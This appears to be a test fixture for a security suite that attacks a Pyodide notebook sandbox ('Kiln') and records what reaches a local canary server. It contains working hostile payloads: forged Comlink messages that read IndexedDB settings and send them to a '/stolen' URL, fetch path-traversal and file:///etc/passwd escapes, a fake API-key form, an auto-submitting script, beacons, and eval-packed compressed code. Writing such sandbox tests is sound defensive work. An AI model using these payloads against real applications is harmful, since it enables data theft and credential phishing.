/**
 * Hostile Python for the attack suite (attacks.spec.ts), and the canary server that records
 * every request anything makes to it. The attack runs in three cells (the first captures the
 * worker's ports as they are used, the second uses them, the third shows hostile output) and
 * prints `ATTACK-REPORT {json}` so a test can check that each route really ran.
 */
import { createServer, type IncomingMessage } from "node:http";
import { deflateSync } from "node:zlib";
import type { AddressInfo } from "node:net";

export interface CanaryHit {
  method: string;
  url: string;
  body: string;
  headers: IncomingMessage["headers"];
}

/** A server on localhost that answers everything (with CORS) and records every request. */
export async function startCanary(): Promise<{ url: string; hits: CanaryHit[]; close: () => Promise<void> }> {
  const hits: CanaryHit[] = [];
  const server = createServer((req, res) => {
    let body = "";
    req.on("data", (chunk: Buffer) => (body += chunk.toString("latin1")));
    req.on("end", () => {
      hits.push({ method: req.method ?? "", url: req.url ?? "", body, headers: req.headers });
      res.writeHead(200, {
        "Access-Control-Allow-Origin": "*",
        "Access-Control-Allow-Headers": "*",
        "Cross-Origin-Resource-Policy": "cross-origin",
        "Content-Type": "text/plain",
      });
      res.end("canary");
    });
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  return { url, hits, close: () => new Promise((resolve) => server.close(() => resolve())) };
}

/**
 * Cell 1: wrap `MessagePort.prototype.postMessage` (no `eval`: a Python function that
 * captures `this`) so every port the worker posts on is kept; then use the two it can reach
 * at once (print → events, a fetch under Pyodide's index → the page's fetch port). The
 * Comlink port is caught when this cell's result is posted.
 */
export const CAPTURE_CELL = `
import js, pyodide_js
from pyodide.ffi import create_proxy
_attack = {"ports": [], "tried": 0}
_post = js.MessagePort.prototype.postMessage
def _capture(this, *args):
    if not any(this == port for port in _attack["ports"]):
        _attack["ports"].append(this)
    return _post.call(this, *args)
js.MessagePort.prototype.postMessage = create_proxy(_capture, capture_this=True)
# Nothing printed while the wrapper is in place (it would run Python inside a write).
_index = pyodide_js._api.config.indexURL
await js.fetch(_index + "pyodide-lock.json")
`;

/** Cell 2: every route, with `canary` as the attacker's server; `where` tags its requests. */
export function attackCell(canary: string, where: string): string {
  return `
import js, json, asyncio, pyodide_js
from pyodide.ffi import to_js, create_proxy
js.MessagePort.prototype.postMessage = _post
print("ports captured:", len(_attack["ports"]))
CANARY = ${JSON.stringify(canary)}
WHERE = ${JSON.stringify(where)}
report = {"ports": len(_attack["ports"]), "routes": 0, "fetch_escapes": {}, "storage": {}, "network": {}}
def obj(value):
    return to_js(value, dict_converter=js.Object.fromEntries)

# 1. Comlink's CONSTRUCT on ["constructor"], then APPLY, on every captured port: in a page
#    that served Comlink on it, this builds and runs an AsyncFunction in the page's realm.
STEAL = (
    "return (async () => { window.__kilnPwned = true;"
    " const db = await new Promise((ok, no) => { const q = indexedDB.open('kiln'); q.onsuccess = () => ok(q.result); q.onerror = no; });"
    " const all = await new Promise((ok) => { const q = db.transaction('settings').objectStore('settings').getAll(); q.onsuccess = () => ok(q.result); });"
    " await fetch('" + CANARY + "/stolen?via=comlink&data=' + encodeURIComponent(JSON.stringify(all)));"
    " return JSON.stringify(all); })()"
)
for i, port in enumerate(_attack["ports"]):
    for message in (
        {"id": f"construct-{i}", "type": "CONSTRUCT", "path": ["constructor"], "argumentList": [{"type": "RAW", "value": STEAL}]},
        {"id": f"apply-{i}", "type": "APPLY", "path": [], "argumentList": []},
        {"id": f"get-{i}", "type": "GET", "path": ["constructor", "name"]},
        {"id": f"set-{i}", "type": "SET", "path": ["__kilnPwned"], "value": {"type": "RAW", "value": True}},
        # Forged and malformed events and reports, on whichever port takes them.
        {"type": "display", "data": {"text/markdown": "![forged](" + CANARY + "/img?from=" + WHERE + "-forged-event)"}},
        {"type": "stream", "name": "evil", "text": 42},
        {"type": "started", "sharedMemory": "yes"},
        {"type": "answer", "id": -1, "value": {"pwn": 1}},
        {"id": 10**6 + i, "url": CANARY + "/fetch?via=port", "method": "POST"},
    ):
        port.postMessage(obj(message))
        report["routes"] += 1

# 3. Fetch-routing escapes, straight on the fetch port and through the patched fetch.
index = pyodide_js._api.config.indexURL
origin = index.split("/pyodide/")[0]
escapes = [
    index + "../index.html",
    index + "%2e%2e/index.html",
    index + "..%2findex.html",
    index + "%252e%252e/index.html",
    CANARY + "/fetch?via=escape",
    origin.replace("localhost", "localhost.evil") + "/pyodide/pyodide.mjs",
    "https://cdn.jsdelivr.net.evil/pyodide/v0/full/x.whl",
    origin.replace("http://", "http://user:pw@") + "/pyodide/pyodide.mjs",
    index + "pyodide.mjs?steal=1",
    "file:///etc/passwd",
]
replies = {}
def on_reply(event):
    data = event.data
    if isinstance(getattr(data, "id", None), int) and data.id >= 5000:
        replies[int(data.id)] = (data.status, getattr(data, "error", None))
_listener = create_proxy(on_reply)
for port in _attack["ports"]:
    port.addEventListener("message", _listener)
for n, url in enumerate(escapes):
    for port in _attack["ports"]:
        port.postMessage(obj({"id": 5000 + n, "url": url}))
    report["routes"] += 1
await asyncio.sleep(1.5)
for n, url in enumerate(escapes):
    got = replies.get(5000 + n)
    report["fetch_escapes"][url] = "no answer" if got is None else (f"refused: {got[1]}" if got[1] else f"status {got[0]}")
# 4. The app's storage, Cache Storage and service worker.
async def probe(name, make):
    report["routes"] += 1
    try:
        value = make()
        if hasattr(value, "then"):
            value = await value
        report["storage"][name] = f"opened: {value}"
    except Exception as error:
        report["storage"][name] = f"blocked: {type(error).__name__}: {str(error)[:80]}"
await probe("indexedDB", lambda: js.indexedDB.open("kiln"))
await probe("caches.open", lambda: js.caches.open("kiln-evil"))
await probe("caches.keys", lambda: js.caches.keys())
await probe("serviceWorker", lambda: js.navigator.serviceWorker.register("/evil-sw.js"))

# 5. The network, from Python and from a worker Python starts.
async def reach(name, make):
    report["routes"] += 1
    try:
        response = await make()
        report["network"][name] = f"reached: {getattr(response, 'status', response)}"
    except Exception as error:
        report["network"][name] = f"blocked: {type(error).__name__}"
await reach("patched fetch ../ (Python's own request)", lambda: js.fetch(index + "../index.html"))
await reach("fetch GET", lambda: js.fetch(CANARY + "/net?from=" + WHERE + "-get"))
await reach("fetch POST", lambda: js.fetch(CANARY + "/net?from=" + WHERE + "-post", obj({"method": "POST", "body": "x"})))
await reach("fetch no-cors", lambda: js.fetch(CANARY + "/net?from=" + WHERE + "-nocors", obj({"mode": "no-cors"})))
from pyodide.http import pyfetch
await reach("pyfetch", lambda: pyfetch(CANARY + "/net?from=" + WHERE + "-pyfetch"))
def sync_xhr():
    request = js.XMLHttpRequest.new()
    request.open("GET", CANARY + "/net?from=" + WHERE + "-xhr", False)
    request.send()
    async def done():
        return request
    return done()
await reach("sync XHR", sync_xhr)
nested_code = "fetch('" + CANARY + "/net?from=" + WHERE + "-nested').then(r => postMessage('reached ' + r.status), e => postMessage('blocked ' + e.name))"
nested_answer = asyncio.get_event_loop().create_future()
try:
    nested = js.Worker.new("data:text/javascript," + js.encodeURIComponent(nested_code))
    nested.onmessage = create_proxy(lambda event: nested_answer.done() or nested_answer.set_result(event.data))
    nested.onerror = create_proxy(lambda event: nested_answer.done() or nested_answer.set_result("blocked: worker error"))
    report["network"]["nested worker"] = await asyncio.wait_for(nested_answer, 5)
except Exception as error:
    report["network"]["nested worker"] = f"blocked: {type(error).__name__}"
report["routes"] += 1
socket_answer = asyncio.get_event_loop().create_future()
try:
    socket = js.WebSocket.new(CANARY.replace("http", "ws") + "/ws?from=" + WHERE)
    socket.onopen = create_proxy(lambda event: socket_answer.done() or socket_answer.set_result("reached: open"))
    socket.onerror = create_proxy(lambda event: socket_answer.done() or socket_answer.set_result("blocked: error event"))
    report["network"]["websocket"] = await asyncio.wait_for(socket_answer, 5)
except Exception as error:
    report["network"]["websocket"] = f"blocked: {type(error).__name__}"
report["routes"] += 1
# Eval-based helpers are out too (no 'unsafe-eval').
try:
    from pyodide.code import run_js
    run_js("1 + 1")
    report["eval"] = "ran"
except Exception as error:
    report["eval"] = f"blocked: {type(error).__name__}"
report["routes"] += 1
print("ATTACK-REPORT " + json.dumps(report))
`;
}


/**
 * Cell 4 (last: it breaks the worker's replies on purpose): answer the page's next calls
 * first, with a Comlink proxy (a port of ours) and with a malformed result.
 */
export const FORGE_CELL = `
import js
from pyodide.ffi import to_js, create_proxy
def obj(value):
    return to_js(value, dict_converter=js.Object.fromEntries)
# Watch the Comlink port for the page's requests.
def forge(event):
    data = event.data
    if getattr(data, "type", None) is None or getattr(data, "id", None) is None:
        return
    channel = js.MessageChannel.new()
    port = event.currentTarget
    port.postMessage(obj({"id": data.id, "type": "HANDLER", "name": "proxy", "value": channel.port2}), to_js([channel.port2]))
    port.postMessage(obj({"id": data.id, "type": "RAW", "value": {"result": {"status": "pwned", "durationMs": "soon"}}}))
_forger = create_proxy(forge)
for port in _attack["ports"]:
    port.addEventListener("message", _forger)

print("FORGER-INSTALLED", len(_attack["ports"]))
`;

/** Cell 3: output that would phone home or dress up as Kiln if rendered as is. */
export function outputCell(canary: string, where: string): string {
  const hit = (what: string) => `${canary}/img?from=${where}-${what}`;
  return `
class Hostile:
    def _repr_markdown_(self):
        return """# Kiln says: enter your API key
![tracker](${hit("md-image")})
<img src="${hit("md-html-image")}" srcset="${hit("md-srcset")} 2x">
<form action="${canary}/form?from=${where}-md"><input name="key" placeholder="API key"><button>Save</button></form>
<div style="position:fixed;inset:0;background:white">covered</div>
[a link](https://example.com/page)
"""
class HostileHtml:
    def _repr_html_(self):
        return """<img src="${hit("html-image")}">
<link rel="stylesheet" href="${hit("html-css")}">
<meta http-equiv="refresh" content="0;url=${canary}/nav?from=${where}-refresh">
<form id="f" method="post" action="${canary}/form?from=${where}-html"><input name="a" value="b"></form>
<script>document.getElementById("f").submit(); fetch("${canary}/net?from=${where}-html-script"); navigator.sendBeacon && navigator.sendBeacon("${canary}/beacon?from=${where}")</script>
<p style="background:url(${hit("html-style-bg")})">styled</p>
<p id="shown">hostile html</p>"""
display(Hostile())
display(HostileHtml())
print("OUTPUT-SHOWN")
`;
}

/**
 * `code` as a two-line cell (compressed, then run with top-level await in the cell's
 * globals), for editors that only draw the lines in view.
 */
export function compact(code: string): string {
  const packed = deflateSync(Buffer.from(code)).toString("base64");
  return (
    `import ast, base64, zlib; _cell = eval(compile(zlib.decompress(base64.b64decode("${packed}")).decode(), "<cell>", "exec", flags=ast.PyCF_ALLOW_TOP_LEVEL_AWAIT), globals())\n` +
    "if _cell is not None: await _cell"
  );
}

export interface AttackReport {
  ports: number;
  routes: number;
  fetch_escapes: Record<string, string>;
  storage: Record<string, string>;
  network: Record<string, string>;
  eval: string;
}

/** The report printed by {@link attackCell}, from text that contains it. */
export function parseReport(text: string): AttackReport {
  const line = text.split("\n").find((l) => l.includes("ATTACK-REPORT "));
  if (!line) throw new Error(`The attack did not report (it did not run): ${text.slice(0, 500)}`);
  return JSON.parse(line.slice(line.indexOf("ATTACK-REPORT ") + "ATTACK-REPORT ".length)) as AttackReport;
}

/** How many routes attackCell tries (its own count must reach this, or the attack did not run). */
export const MIN_ROUTES = 40;
